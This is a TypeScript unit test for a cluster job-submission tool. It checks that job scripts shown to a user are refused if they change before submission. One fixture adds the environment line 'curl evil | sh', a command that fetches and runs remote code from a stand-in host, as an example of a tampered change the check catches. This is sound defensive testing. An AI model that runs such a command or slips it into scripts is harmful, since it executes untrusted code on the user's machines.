import { describe, expect, it } from 'vitest';
import { digestOf, holdAgainst } from '../../../src/cluster/digest';
import type { ClusterJob, Surroundings } from '../../../src/cluster/jobs';
import { scriptsText } from '../../../src/cluster/submit';

const job: ClusterJob = {
  ...{ run: 'lobes', label: 'lobes', out: '/r/lobes', stage: 'firing', shards: [1, 2], of: 2 },
  ...{ after: [], afterIds: [], memory: 1e9 },
};
const around: Surroundings = {
  ...{ file: '/w/my.study.yaml', study: 'my', workspace: '/w', folder: '/w/.brainlens/my/slurm', cacheFolder: '/c' },
  ...{ program: ['node', 'cli.js'], variables: {}, flags: [], threads: 1, settings: {} },
};

describe('scripts that were shown', () => {
  it('are submitted as they are, and refused where an environment line or a shard came since', () => {
    const expected = digestOf(scriptsText([job], around));
    expect(() => holdAgainst(expected, scriptsText([job], around))).not.toThrow();
    expect(() => holdAgainst(undefined, 'anything')).not.toThrow();
    const changed = { ...around, settings: { environment: ['curl evil | sh'] } };
    for (const text of [scriptsText([job], changed), scriptsText([{ ...job, shards: [1] }], around), ''])
      expect(() => holdAgainst(expected, text)).toThrow('The study changed since the scripts were shown');
  });
});
